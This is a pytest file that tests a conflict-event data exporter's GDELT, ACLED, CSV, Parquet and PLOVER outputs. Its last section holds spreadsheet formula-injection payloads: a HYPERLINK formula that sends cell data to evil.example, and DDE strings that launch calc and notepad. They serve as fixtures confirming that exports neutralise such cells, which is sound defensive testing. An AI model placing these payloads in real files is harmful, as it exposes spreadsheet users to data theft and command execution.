"""Exports: every format opens in pandas with the documented columns; GDELT's columns in
GDELT's order; the mappings give what GDELT and ACLED users expect for the strike."""

from __future__ import annotations

import io
import json
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from flashpoint.cli import app
from flashpoint.export import ACLED_COLUMNS, FLAT_COLUMNS, GDELT_COLUMNS, gdelt_event_id, mapping

ROOT = Path(__file__).resolve().parents[2]
runner = CliRunner()

# GDELT 2.0's event table, as in GDELT's published header row (spelled out here, not derived,
# so that a change to the exporter's list fails this test).
GDELT_HEADER = [
    "GLOBALEVENTID",
    "SQLDATE",
    "MonthYear",
    "Year",
    "FractionDate",
    "Actor1Code",
    "Actor1Name",
    "Actor1CountryCode",
    "Actor1KnownGroupCode",
    "Actor1EthnicCode",
    "Actor1Religion1Code",
    "Actor1Religion2Code",
    "Actor1Type1Code",
    "Actor1Type2Code",
    "Actor1Type3Code",
    "Actor2Code",
    "Actor2Name",
    "Actor2CountryCode",
    "Actor2KnownGroupCode",
    "Actor2EthnicCode",
    "Actor2Religion1Code",
    "Actor2Religion2Code",
    "Actor2Type1Code",
    "Actor2Type2Code",
    "Actor2Type3Code",
    "IsRootEvent",
    "EventCode",
    "EventBaseCode",
    "EventRootCode",
    "QuadClass",
    "GoldsteinScale",
    "NumMentions",
    "NumSources",
    "NumArticles",
    "AvgTone",
    "Actor1Geo_Type",
    "Actor1Geo_FullName",
    "Actor1Geo_CountryCode",
    "Actor1Geo_ADM1Code",
    "Actor1Geo_ADM2Code",
    "Actor1Geo_Lat",
    "Actor1Geo_Long",
    "Actor1Geo_FeatureID",
    "Actor2Geo_Type",
    "Actor2Geo_FullName",
    "Actor2Geo_CountryCode",
    "Actor2Geo_ADM1Code",
    "Actor2Geo_ADM2Code",
    "Actor2Geo_Lat",
    "Actor2Geo_Long",
    "Actor2Geo_FeatureID",
    "ActionGeo_Type",
    "ActionGeo_FullName",
    "ActionGeo_CountryCode",
    "ActionGeo_ADM1Code",
    "ActionGeo_ADM2Code",
    "ActionGeo_Lat",
    "ActionGeo_Long",
    "ActionGeo_FeatureID",
    "DATEADDED",
    "SOURCEURL",
]
ACLED_HEADER = [
    "event_id_cnty",
    "event_date",
    "year",
    "time_precision",
    "disorder_type",
    "event_type",
    "sub_event_type",
    "actor1",
    "assoc_actor_1",
    "inter1",
    "actor2",
    "assoc_actor_2",
    "inter2",
    "interaction",
    "civilian_targeting",
    "iso",
    "region",
    "country",
    "admin1",
    "admin2",
    "admin3",
    "location",
    "latitude",
    "longitude",
    "geo_precision",
    "source",
    "source_scale",
    "notes",
    "fatalities",
    "tags",
    "timestamp",
]


def export(db: Path, fmt: str, *args: str, out: Path | None = None):
    argv = ["export", "--format", fmt, "--db", str(db), *args]
    if out is not None:
        argv += ["--out", str(out)]
    result = runner.invoke(app, argv)
    assert result.exit_code == 0, result.output
    return result


def test_gdelt_columns_are_gdelts_in_gdelts_order(served_db: Path, strike) -> None:
    assert list(GDELT_COLUMNS) == GDELT_HEADER and len(GDELT_HEADER) == 61
    result = export(served_db, "gdelt")
    assert result.stdout.splitlines()[0].split("\t") == GDELT_HEADER
    frame = pd.read_csv(
        io.StringIO(result.stdout),
        sep="\t",
        dtype={"EventCode": str, "EventBaseCode": str, "EventRootCode": str},
    )
    assert list(frame.columns) == GDELT_HEADER
    row = frame[frame["GLOBALEVENTID"] == gdelt_event_id(strike.link_id or strike.id)].iloc[0]
    assert row["SQLDATE"] == int(strike.date.strftime("%Y%m%d"))
    assert row["EventCode"] == "195" and row["EventRootCode"] == "19"
    assert row["QuadClass"] == 4 and row["GoldsteinScale"] == strike.event_scale
    assert row["ActionGeo_CountryCode"] == "IZ"  # FIPS 10-4, as GDELT, not ISO
    assert row["ActionGeo_Type"] == 4
    assert row["ActionGeo_FullName"].startswith("Baghdad, ") and row["ActionGeo_FullName"].endswith(
        "Iraq"
    )
    assert (
        row["ActionGeo_Lat"] == pytest.approx(33.34, abs=0.05)
        and row["ActionGeo_FeatureID"] == 98182
    )
    # The first recipient with a code (the incidents stage puts the lede's first).
    first = next(a for a in strike.recipient if a.code)
    assert row["Actor2Code"] == f"{first.code}{first.sector}" and row["Actor2CountryCode"] == "IRQ"
    assert str(row["DATEADDED"]).isdigit() and len(str(row["DATEADDED"])) == 14


def test_acled_columns_and_strike_row(
    served_db: Path, served_result, strike, tmp_path: Path
) -> None:
    assert list(ACLED_COLUMNS) == ACLED_HEADER
    out = tmp_path / "acled.csv"
    export(served_db, "acled", out=out)
    frame = pd.read_csv(out)
    assert list(frame.columns) == ACLED_HEADER
    # One row per event the ACLED typing gives a sub-event type; statements and meetings have
    # none (ACLED records no event for them).
    expected = [e for e in served_result.events if e.acled and e.acled.sub_event_type]
    assert len(frame) == len(expected) > 0
    verbal = {"ACCUSE", "THREATEN", "CONSULT", "SUPPORT", "REQUEST", "REJECT", "CONCEDE"}
    assert not [e for e in expected if e.event in verbal]
    assert set(frame["sub_event_type"]) == {e.acled.sub_event_type for e in expected}
    row = frame[frame["event_id_cnty"].str.endswith(strike.id)].iloc[0]
    assert row["event_type"] == "Explosions/Remote violence"
    assert row["sub_event_type"] == "Air/drone strike"
    assert row["disorder_type"] == "Political violence"
    assert row["fatalities"] == 4 and row["country"] == "Iraq" and row["iso"] == 368
    assert row["location"] == "Baghdad" and row["geo_precision"] == 1
    first = strike.recipient[0]
    assert row["actor2"] == (first.name or first.text)
    assert row["inter2"] == mapping()["acled"]["inter"][first.sector]
    assert row["notes"] == strike.evidence.text


def test_csv_parquet_and_plover(served_db: Path, served_result, strike, tmp_path: Path) -> None:
    result = export(served_db, "csv", "--type", "ASSAULT")
    frame = pd.read_csv(io.StringIO(result.stdout))
    assert list(frame.columns) == list(FLAT_COLUMNS)
    assert set(frame["event"]) == {"ASSAULT"}
    assert len(frame) == sum(1 for e in served_result.events if e.event == "ASSAULT")
    assert frame["negated"].dtype == bool

    parquet = tmp_path / "events.parquet"
    export(served_db, "parquet", out=parquet)
    table = pd.read_parquet(parquet)
    assert list(table.columns) == list(FLAT_COLUMNS) and len(table) == len(served_result.events)
    assert str(table["quad_code"].dtype) == "int64" and str(table["latitude"].dtype) == "float64"
    row = table[table["id"] == strike.id].iloc[0]
    assert row["dead"] == 4 and row["place_country"] == "IRQ"

    plover = export(served_db, "plover", "--limit", "5").stdout
    records = [json.loads(line) for line in plover.splitlines()]
    assert len(records) == 5
    frame = pd.read_json(io.StringIO(plover), lines=True)
    for key in (
        "id",
        "date",
        "event",
        "mode",
        "actor",
        "recipient",
        "event_loc",
        "quad_code",
        "event_scale",
        "event_text",
        "text_info",
        "cite_info",
        "flashpoint",
    ):
        assert key in frame.columns
    assert all(isinstance(r["event"], list) and r["event"][0] for r in records)


def test_api_exports_match_the_cli(client, served_db: Path) -> None:
    for fmt in ("plover", "csv", "gdelt", "acled"):
        response = client.get(f"/api/exports/{fmt}")
        assert response.status_code == 200
        assert "attachment" in response.headers["content-disposition"]
        assert response.text == export(served_db, fmt).stdout
    parquet = client.get("/api/exports/parquet", params={"type": "ASSAULT"})
    assert parquet.headers["content-type"] == "application/vnd.apache.parquet"
    assert set(pd.read_parquet(io.BytesIO(parquet.content))["event"]) == {"ASSAULT"}


def test_export_errors_are_one_line(served_db: Path, tmp_path: Path) -> None:
    bad = runner.invoke(app, ["export", "--format", "xlsx", "--db", str(served_db)])
    assert bad.exit_code == 1 and "xlsx" in bad.stderr and "Traceback" not in bad.output
    query = runner.invoke(
        app,
        [
            "export",
            "-f",
            "csv",
            "--db",
            str(served_db),
            "--search",
            '"open',
            "-o",
            str(tmp_path / "x.csv"),
        ],
    )
    assert query.exit_code != 0 and not (tmp_path / "x.csv").exists()
    assert not (tmp_path / "x.csv.partial").exists()


def test_exports_doc_lists_every_column() -> None:
    doc = (ROOT / "docs" / "exports.md").read_text(encoding="utf-8")
    for column in (*FLAT_COLUMNS, *GDELT_COLUMNS, *ACLED_COLUMNS):
        assert f"`{column}`" in doc, column


# --- spreadsheet formulas are neutralised (CSV injection) -------------------------------------

FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "url": "@SUM(1+1)*cmd|' /C calc'!A0",
    "actor": "+cmd|' /C notepad'!A1",
    "evidence": "-2+3+cmd|' /C calc'!A0",
}


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory, served_result, strike) -> Path:
    """The served article with formulas in its title, URL, an actor's name and evidence, and
    its places moved west of Greenwich (negative longitudes)."""
    from flashpoint.store import Store

    result = served_result.model_copy(deep=True)
    result.article.id = "a-hostile"
    result.article.title = FORMULAS["title"]
    result.article.url = FORMULAS["url"]
    for event in result.events:
        event.article_id = "a-hostile"
        event.id = "h-" + event.id
        event.link_id = None
        if event.event_loc is not None and event.event_loc.lon is not None:
            event.event_loc.lon = -abs(event.event_loc.lon) - 0.25
        if event.evidence.text == strike.evidence.text:
            event.evidence.text = FORMULAS["evidence"]
            for actor in event.actor + event.recipient:
                actor.name = FORMULAS["actor"]
    for quote in result.quotes:
        quote.article_id = "a-hostile"
        quote.id = "h-" + quote.id
    path = tmp_path_factory.mktemp("hostile") / "hostile.db"
    with Store(path) as store:
        store.save(result)
    return path


def _cells(text: str, sep: str) -> list[str]:
    frame = pd.read_csv(io.StringIO(text), sep=sep, dtype=str, keep_default_na=False)
    return [cell for column in frame.columns for cell in frame[column]]


@pytest.mark.parametrize(("fmt", "sep"), [("csv", ","), ("acled", ","), ("gdelt", "\t")])
def test_formula_cells_are_neutralised_in_spreadsheet_formats(
    hostile_db: Path, fmt: str, sep: str
) -> None:
    cells = _cells(export(hostile_db, fmt).stdout, sep)
    leading = [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    assert leading == []
    dashes = [c for c in cells if c.startswith("-")]
    assert dashes and all(float(c) < 0 for c in dashes)  # negative numbers, left as they are
    quoted = {c for c in cells if c.startswith("'")}
    expected = {
        "csv": {"title", "url", "actor", "evidence"},
        "acled": {"actor", "evidence"},  # ACLED names actors and quotes the evidence in notes
        "gdelt": {"url"},  # SOURCEURL; GDELT's actor names are its own upper-case names
    }[fmt]
    for key in expected:
        value = " ".join(FORMULAS[key].split()) if fmt == "gdelt" else FORMULAS[key]
        assert any(cell == "'" + value or cell.startswith("'" + value) for cell in quoted), key


def test_no_escape_formulas_gives_values_verbatim(hostile_db: Path) -> None:
    from fastapi.testclient import TestClient

    from flashpoint.api import Settings, create_app
    from flashpoint.api.settings import get_settings

    raw = export(hostile_db, "csv", "--no-escape-formulas").stdout
    app = create_app()
    app.dependency_overrides[get_settings] = lambda: Settings(db=hostile_db)
    with TestClient(app) as api:
        assert api.get("/api/exports/csv", params={"escape_formulas": "false"}).text == raw
        assert api.get("/api/exports/csv").text == export(hostile_db, "csv").stdout != raw
    cells = _cells(raw, ",")
    assert FORMULAS["title"] in cells and FORMULAS["evidence"] in cells
    escaped = export(hostile_db, "csv").stdout
    assert _cells(escaped, ",").count("'" + FORMULAS["title"]) == cells.count(FORMULAS["title"])
    # Only text changes: every numeric column is the same with and without escaping.
    numeric = [name for name, kind in FLAT_COLUMNS.items() if kind in ("int", "float")]
    plain = pd.read_csv(io.StringIO(raw))[numeric]
    assert plain.equals(pd.read_csv(io.StringIO(escaped))[numeric])
    assert (plain["longitude"].dropna() < 0).all() and len(plain["longitude"].dropna())
